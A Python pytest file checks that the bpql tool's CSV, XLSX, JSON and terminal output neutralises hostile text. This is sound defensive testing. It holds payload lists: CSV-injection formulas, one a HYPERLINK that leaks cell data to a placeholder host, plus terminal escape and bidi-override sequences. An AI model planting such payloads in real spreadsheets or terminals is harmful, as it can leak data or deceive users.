"""Output safety (issue 19, items 4 and 7): no formula in any spreadsheet or CSV BPQL writes, no
raw control character on any terminal.

An enterprise whose every free-text field is hostile (formula-like text, terminal escapes, bidi
overrides, rich markup) goes through every XLSX and CSV writer, read back with openpyxl and
`csv`, and through every text command, whose stdout and stderr are searched for a byte a
terminal acts on. The oracles here are the test's own (`ACTING`, `looks_like_formula`), not the
functions under test, so the end-to-end tests fail on code that never had them.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
from pathlib import Path
from typing import Any

import pytest

from bpql.model.validate import validate_paths
from tests.test_load import bpql

#: formula-like text: OWASP's CSV-injection starts, also after leading whitespace
FORMULAS = [
    "=1+2",
    '=HYPERLINK("http://x.invalid/?leak="&A1,"click me")',
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =1",
]
#: what a terminal acts on: a title change, an OSC 8 link, a colour, a bidi override, a bell;
#: rich markup and an emoji code, which a rich console would render; and nothing at all
EXTRAS = [
    "\x1b]0;title\x07",
    "\x1b]8;;http://x\x1b\\link",
    "\x1b[31m",
    "\u202e",
    "\x07",
    "\x85",  # NEL, a C1 control
    "\u2066",  # an isolate: reorders like an override
    "[link=http://x.invalid]click[/link]",
    "[bold]loud[/bold]",
    ":smile:",
    "",
]
#: a character a terminal acts on: C0 (tab and newline aside) and C1 controls, DEL, line and
#: paragraph separators, bidi embeddings, overrides and isolates
ACTING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
#: rich's own styling when a terminal is forced: SGR sequences only
SGR = re.compile(r"\x1b\[[0-9;]*m")


def looks_like_formula(text: str) -> bool:
    return text.startswith(("\t", "\r", "\n")) or text.lstrip().startswith(("=", "+", "-", "@"))


class Hostile:
    """Free-text values, each new: every formula meets every extra (8 and 11 are coprime)."""

    def __init__(self, extras: list[str]) -> None:
        self.n = 0
        self.extras = extras
        self.given: list[str] = []

    def __call__(self, *, name: bool = False) -> str:
        self.n += 1
        formula = FORMULAS[self.n % len(FORMULAS)]
        if name:  # a name is refused with a space or line break at either end (F-codes)
            formula = formula.lstrip()
        value = f"{formula}{self.extras[self.n % len(self.extras)]} {self.n}"
        self.given.append(value)
        return json.dumps(value)  # a JSON string is a YAML double-quoted scalar

    def name(self) -> str:
        """A hostile name: formula-like, with what a terminal acts on, but no whitespace at
        its ends (validate refuses that; free text keeps the leading whitespace cases)."""
        return self(name=True)


def write_enterprise(folder: Path, extras: list[str] = EXTRAS) -> None:
    """One service, as-is and to-be, a system with a fail point of its own, the rating scales'
    wording and a metric with a negative target: every free-text field hostile."""
    h = Hostile(extras)
    (folder / "services").mkdir(parents=True)
    (folder / "enterprise.yaml").write_text(
        f"""enterprise: {h()}
description: {h()}
departments:
  - {{id: ops, name: {h.name()}}}
roles:
  - {{id: agent, name: {h.name()}, department: ops}}
systems:
  - id: crm
    name: {h.name()}
    kind: {h()}
    owner: ops
    fail_points:
      - {{id: down, name: {h.name()}, severity: 9, occurrence: 5, detection: 7, effect: svc.call,
         action: {h()}, owner: agent}}
touchpoints:
  - {{id: phone, name: {h.name()}, channel: phone}}
personas:
  - {{id: p, name: {h.name()}, description: {h()}}}
fmea:
  severity:
    10: {h()}
  detection:
    1: {h()}
"""
    )
    service, about = h.name(), h()
    for scenario in ("as-is", "to-be"):
        answer = "answer" if scenario == "as-is" else "answer-now"
        occurrence = 4 if scenario == "as-is" else 2
        (folder / "services" / f"svc-{scenario}.yaml").write_text(
            f"""service: {{id: svc, name: {service}, description: {about}}}
scenario: {scenario}
version: {h()}
personas: [p]
phases:
  - {{id: one, name: {h.name()}}}
evidence:
  - {{id: ev, name: {h.name()}, kind: {h()}}}
steps:
  - id: call
    name: {h.name()}
    lane: customer
    phase: one
    touchpoint: phone
    description: {h()}
    moment_of_truth: true
    max_wait: 10d
  - id: {answer}
    name: {h.name()}
    lane: frontstage
    phase: one
    touchpoint: phone
    performed_by: agent
    uses: [crm]
    supports: [call]
    script: {h()}
    target_time: 1w3d
    fail_points:
      - id: wrong
        name: {h.name()}
        severity: 8
        occurrence: {occurrence}
        detection: 6
        effect: call
        cause: crm
        controls: {{prevention: {h()}, detection: {h()}}}
        action: {h()}
        owner: ops
        due: 2027-01-31
        status: in progress
        after: {{severity: 8, occurrence: 2, detection: 3}}
metrics:
  - {{id: m, name: {h.name()}, target: -3, unit: {h()}, measures: [call]}}
"""
        )


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile") / "ent"
    write_enterprise(folder)
    return folder


@pytest.fixture(scope="module")
def formulas(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The same enterprise with formula-like text only: nothing a workbook refuses to hold."""
    folder = tmp_path_factory.mktemp("formulas") / "ent"
    write_enterprise(folder, [""])
    return folder


@pytest.fixture(scope="module")
def store(hostile: Path, tmp_path_factory: pytest.TempPathFactory) -> str:
    uri = f"embedded:{tmp_path_factory.mktemp('hostile-store') / 'g.lbdb'}"
    r = bpql("load", str(hostile), "--db", uri)
    assert r.returncode == 0, r.stderr
    return uri


def test_the_enterprise_is_as_hostile_as_intended(hostile: Path) -> None:
    """The files hold what the tests rely on: formula-like and escape-laden names that pass
    validation (a test that writes only safe values proves nothing)."""
    g = validate_paths([hostile]).graph
    names = [n["name"] for nodes in g.nodes.values() for n in nodes if n.get("name")]
    assert sum(looks_like_formula(n) for n in names) >= 20
    assert sum(bool(ACTING.search(n)) for n in names) >= 10
    assert any('=HYPERLINK("http://x.invalid/' in n for n in names)


def assert_quiet(*texts: str) -> None:
    """Nothing a terminal acts on: no ESC, BEL, other C0 or C1 control, separator or bidi
    override (newlines and tabs are text)."""
    for text in texts:
        found = sorted({f"U+{ord(c):04X}" for c in ACTING.findall(text)})
        assert not found, f"{found} in:\n{text[:2000]}"


# --- spreadsheets -----------------------------------------------------------------------------


def _dropped(cell: str) -> str:
    """A CSV cell's text: the one `'` a writer puts before formula-like text dropped."""
    return cell[1:] if cell.startswith("'") else cell


def _expected(value: str) -> str:
    """A value as a spreadsheet gets it: what a terminal acts on shown as its escape."""
    return "".join(
        c.encode("unicode_escape").decode() if ACTING.match(c) or c == "\r" else c for c in value
    )


def read_csv(text: str) -> list[list[Any]]:
    """Rows of a CSV, numbers as floats: an unquoted field must be a number."""
    rows = list(csv.reader(io.StringIO(text), quoting=csv.QUOTE_NONNUMERIC))
    for row in rows:
        for cell in row:
            assert isinstance(cell, float) or not looks_like_formula(cell), (cell, row)
            if isinstance(cell, str):
                assert not ACTING.search(cell), cell
    return rows


def _register_rows(hostile: Path) -> list[dict[str, Any]]:
    from bpql.analysis import register

    return register.build(validate_paths([hostile])).rows


def test_the_register_csv_holds_no_formula(hostile: Path, tmp_path: Path) -> None:
    """`bpql register --format csv` and `-o r.csv`: every text cell quoted and, when formula-like,
    prefixed with one `'`; dropping it gives the value back; numbers stay numbers."""
    out = tmp_path / "r.csv"
    written = bpql("register", str(hostile), "-o", str(out))
    printed = bpql("register", str(hostile), "--format", "csv")
    assert written.returncode == printed.returncode == 0, written.stderr + printed.stderr
    assert out.read_text(encoding="utf-8") == printed.stdout
    rows = read_csv(printed.stdout)
    header, body = rows[0], rows[1:]
    expected = _register_rows(hostile)
    assert len(body) == len(expected) == 3
    prefixed = 0
    for row, want in zip(body, expected, strict=True):
        cells = dict(zip(header, row, strict=True))
        for title, key in (("Fail point", "name"), ("Recommended action", "action")):
            assert _dropped(cells[title]) == _expected(want[key])
            prefixed += cells[title].startswith("'")
        assert cells["RPN"] == want["rpn"] and isinstance(cells["RPN"], float)
        assert cells["Due"] in ("", want["due"])
    assert prefixed >= 4
    # a formula-like value with nothing a terminal acts on comes back exactly
    exact = [c for row in body for c in row if isinstance(c, str) and c.startswith("'=")]
    assert exact and all(not ACTING.search(c) for c in exact)


@pytest.mark.parametrize("enterprise", ["hostile", "formulas"])
def test_the_register_workbook_holds_no_formula(
    enterprise: str, request: pytest.FixtureRequest, tmp_path: Path
) -> None:
    """`bpql register -o r.xlsx`, read back with openpyxl (`data_only=False`): no cell of any
    sheet is a formula; formula-like text is a string cell with Excel's quote prefix and its
    exact text; ratings and RPN are numbers, `Due` a date."""
    from openpyxl import load_workbook

    hostile: Path = request.getfixturevalue(enterprise)

    out = tmp_path / "r.xlsx"
    r = bpql("register", str(hostile), "-o", str(out))
    assert r.returncode == 0, r.stderr
    assert_quiet(r.stdout, r.stderr)
    wb = load_workbook(out, data_only=False)
    quoted = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not ACTING.search(cell.value), cell.value
                    if looks_like_formula(cell.value):
                        assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
                        quoted += 1
    assert quoted >= 10
    ws = wb["Register"]
    header = [c.value for c in ws[1]]
    body = [dict(zip(header, row, strict=True)) for row in ws.iter_rows(min_row=2)]
    expected = _register_rows(hostile)
    for cells, want in zip(body, expected, strict=True):
        assert cells["Fail point"].value == _expected(want["name"])
        assert cells["RPN"].data_type == "n" and cells["RPN"].value == want["rpn"]
        if want["due"]:
            assert cells["Due"].is_date and cells["Due"].value.date().isoformat() == want["due"]
    scales = [c.value for row in wb["Scales"].iter_rows(min_row=2) for c in row]
    assert any(isinstance(v, str) and looks_like_formula(v) for v in scales)  # the wording, exact
    about = {row[0].value: row[1] for row in wb["About"].iter_rows()}
    assert about["Enterprise"].quotePrefix and about["Fail points"].value == 3


def test_query_csv_holds_no_formula_and_numbers_stay_numbers(store: str, hostile: Path) -> None:
    """`bpql query --format csv`, a table and a graph answer: no formula-like cell, durations
    as numbers of minutes with the unit in the header, a negative target the number -3."""
    q = "find steps return name, description, script, max_wait, target_time scenario any"
    r = bpql("query", q, "--db", store, "--format", "csv")
    assert r.returncode == 0, r.stderr
    assert_quiet(r.stdout, r.stderr)
    rows = read_csv(r.stdout)
    assert rows[0] == [
        "name",
        "description",
        "script",
        "max_wait (minutes)",
        "target_time (minutes)",
    ]
    assert [row[3] for row in rows[1:] if row[3] != ""] == [14400.0] * 2  # 10d
    assert [row[4] for row in rows[1:] if row[4] != ""] == [14400.0] * 2  # 1w3d
    names = {n["name"] for n in validate_paths([hostile]).graph.nodes["Step"]}
    assert {_dropped(row[0]) for row in rows[1:]} == {_expected(n) for n in names}

    metrics = read_csv(
        bpql("query", "find metrics return name, target", "--db", store, "--format", "csv").stdout
    )
    assert [row[1] for row in metrics[1:]] == [-3.0]  # a number, not text
    assert all(row[0].startswith("'") for row in metrics[1:] if looks_like_formula(row[0][1:]))

    graph = bpql("query", 'show service "svc"', "--db", store, "--format", "csv")
    assert graph.returncode == 0, graph.stderr
    assert_quiet(graph.stdout)
    assert len(read_csv(graph.stdout)) > 3


#: queries that between them return every free-text field of the hostile enterprise
EVERY_TEXT = [
    "find steps return name, description, script scenario any",
    "find failpoints return name, action, prevention, detection_control scenario any",
    "find systems return name, kind",
    "find personas return name, description",
    "find services return name, description",
    "find roles return name",
    "find departments return name",
    "find touchpoints return name",
    "find metrics return name, unit scenario any",
    "find evidence return name, kind scenario any",
    "find phases return name scenario any",
]


def test_query_json_keeps_every_value_exactly(store: str) -> None:
    """JSON is data for programs: the same values, escapes included, and still nothing a
    terminal acts on in its text (JSON's own `\\u` escapes)."""
    values = ""
    for q in EVERY_TEXT:
        r = bpql("query", q, "--db", store, "--format", "json")
        assert r.returncode == 0, r.stderr
        assert_quiet(r.stdout)
        values += "".join(str(v) for row in json.loads(r.stdout)["rows"] for v in row if v)
    assert {"\x1b", "\x07", "\x85", "\u202e", "\u2066"} <= set(values)


# --- terminals --------------------------------------------------------------------------------


def test_file_commands_print_nothing_a_terminal_acts_on(hostile: Path, tmp_path: Path) -> None:
    """validate, lint (text, JSON, SARIF), register and a load, a reload and a dry run."""
    changed = tmp_path / "changed"
    shutil.copytree(hostile, changed)
    path = changed / "services" / "svc-as-is.yaml"
    path.write_text(path.read_text().replace("severity: 8", "severity: 9"))
    db = f"embedded:{tmp_path / 'g.lbdb'}"
    runs = {
        "validate": bpql("validate", str(hostile)),
        "lint": bpql("lint", str(hostile)),
        "lint json": bpql("lint", str(hostile), "--format", "json"),
        "lint sarif": bpql("lint", str(hostile), "--format", "sarif"),
        "register": bpql("register", str(hostile)),
        "load": bpql("load", str(hostile), "--db", db),
        "dry run": bpql("load", str(changed), "--db", db, "--dry-run"),
        "reload": bpql("load", str(changed), "--db", db),
        "diff folders": bpql("diff", str(hostile), str(changed)),
        "diff files": bpql("diff", "svc", "--files", str(hostile)),
    }
    for what, r in runs.items():
        assert r.returncode in (0, 1), (what, r.stderr)
        assert "Traceback" not in r.stderr, what
        assert_quiet(r.stdout, r.stderr)
    assert "\\x1b]0;title\\x07" in runs["register"].stdout  # shown, not acted on
    assert "\\x1b" in runs["validate"].stdout and "\\x1b" in runs["load"].stdout
    assert "\\u202e" in runs["diff files"].stdout or "\\x1b" in runs["diff files"].stdout


def test_the_register_listing_says_each_row_s_scenario(hostile: Path) -> None:
    """As-is and to-be rows of one fail point share its name: each row says which it is."""
    r = bpql("register", str(hostile))
    lines = r.stdout.splitlines()
    assert lines[0].endswith(
        "3 fail points (AIAG & VDA FMEA Handbook (2019), Action Priority for DFMEA and PFMEA)"
    )
    assert sum(", as-is / " in line for line in lines) == 1
    assert sum(", to-be / " in line for line in lines) == 1
    assert sum("[system " in line for line in lines) == 1


STORE_COMMANDS = [
    ("query", "find steps return name, description, script, max_wait scenario any"),
    ("query", "find failpoints return name, action, owner, prevention, system"),
    ("query", "find systems return name, kind"),
    ("query", "find metrics return name, unit, target"),
    ("query", 'show service "svc"'),
    ("query", 'impact of system "crm"'),
    ("query", 'risk of system "crm"'),
    ("query", "count steps by name"),
    ("explain", 'find steps where name = "\\u001b]0;x\\u0007\\u202e\\u0085" return name'),
    ("query", 'find steps where name = "\\u001b]0;x\\u0007" return name'),
    ("diff", "svc"),
    ("stats",),
]


@pytest.mark.parametrize("args", STORE_COMMANDS, ids=lambda a: " ".join(a)[:40])
def test_store_commands_print_nothing_a_terminal_acts_on(store: str, args: tuple[str, ...]) -> None:
    r = bpql(*args, "--db", store)
    assert r.returncode == 0, r.stderr
    assert r.stdout
    assert_quiet(r.stdout, r.stderr)


def test_a_colour_terminal_gets_rich_styles_only(store: str) -> None:
    """With colours forced (as on a terminal), the only escape sequences are rich's own SGR
    styles: no title change, no OSC 8 link from `[link=...]` markup, no bell; the markup is
    printed as the text it is."""
    env = {**os.environ, "FORCE_COLOR": "1", "TERM": "xterm-256color", "COLUMNS": "200"}
    env.pop("NO_COLOR", None)
    for args in (
        ("query", "find steps return name, description, script"),
        ("query", "find failpoints return name, action"),
        ("query", "find personas return name, description"),
        ("diff", "svc"),
        ("stats",),
    ):
        r = bpql(*args, "--db", store, env=env)
        assert r.returncode == 0, r.stderr
        assert args[0] == "diff" or SGR.search(r.stdout), "colours were not forced"
        assert_quiet(SGR.sub("", r.stdout), r.stderr)
    shown = ""
    for q in EVERY_TEXT:
        r = bpql("query", q, "--db", store, env=env)
        assert_quiet(SGR.sub("", r.stdout))
        shown += SGR.sub("", r.stdout)
    for markup in ("[link=http://x.invalid]click[/link]", "[bold]loud[/bold]", ":smile:"):
        assert markup in shown, markup
    # a terminal too narrow for the table: one block per row, escaped the same way
    narrow = bpql("query", EVERY_TEXT[0], "--db", store, env={**env, "COLUMNS": "40"})
    assert narrow.returncode == 0 and "name: " in SGR.sub("", narrow.stdout)
    assert_quiet(SGR.sub("", narrow.stdout))


def test_the_shell_prints_nothing_a_terminal_acts_on(store: str) -> None:
    script = "\n".join(
        [
            "find steps return name, description, script",
            "find failpoints return name, action",
            'find steps where name = "\x1b[31m" return name',
            'show step "\x1b]0;t\x07"',
            "help",
        ]
    )
    r = bpql("shell", "--db", store, stdin=script + "\n")
    assert r.returncode == 0, r.stderr
    assert "\\x1b" in r.stdout
    assert_quiet(r.stdout, r.stderr)


# --- the functions every writer goes through ---------------------------------------------------


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_like_text_gets_one_quote(value: str) -> None:
    from bpql.safe import spreadsheet_cell

    cell = spreadsheet_cell(value)
    assert isinstance(cell, str) and cell.startswith("'")
    assert _dropped(cell) == _expected(value)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-3, -3),
        (-3.0, -3),
        (2.5, 2.5),
        ("plain", "plain"),
        ("'quoted", "''quoted"),  # a leading ' always means "added"
        ("-3", "'-3"),  # text is text, even when it reads as a number
        (None, ""),
        (True, "true"),
        (["=a", "b"], "'=a; b"),
        ("a\nb", "a\nb"),
        ("\x1b[31m=1", "\\x1b[31m=1"),
    ],
)
def test_spreadsheet_cells(value: Any, cell: Any) -> None:
    from bpql.safe import spreadsheet_cell

    got = spreadsheet_cell(value)
    assert got == cell and type(got) is type(cell)


def test_a_duration_is_a_number_of_minutes_in_csv() -> None:
    from bpql.durations import Duration
    from bpql.result import Table

    table = Table(
        ["id", "max_wait"], [["a", Duration(14400)], ["b", None]], {"max_wait": "minutes"}
    )
    assert table.to_csv() == '"id","max_wait (minutes)"\n"a",14400\n"b",""\n'


@pytest.mark.parametrize(
    "ch",
    [
        "\x1b",
        "\x07",
        "\x00",
        "\x7f",
        "\x85",
        "\x9b",
        "\u2028",
        "\u2029",
        "\u202a",
        "\u202e",
        "\u2066",
        "\u2069",
        "\r",
        "\x0b",
        "\n",
    ],
)
def test_terminal_text_escapes_what_a_terminal_acts_on(ch: str) -> None:
    from bpql.safe import json_text, terminal_text

    text = terminal_text(f"a{ch}b")
    assert not ACTING.search(text) and "\n" not in text
    assert text == f"a{ch.encode('unicode_escape').decode()}b"
    kept = terminal_text(f"a{ch}b", keep_newlines=True)
    assert kept == ("a\nb" if ch == "\n" else text)
    doc = {"v": f"a{ch}b"}
    assert not ACTING.search(json_text(doc)) and json.loads(json_text(doc)) == doc


def test_terminal_text_leaves_text_alone() -> None:
    from bpql.safe import terminal_text

    for text in ("plain", "tab\there", "ünïcödé ✓ 日本", "back\\slash", "[bold]x[/bold]"):
        assert terminal_text(text) == text
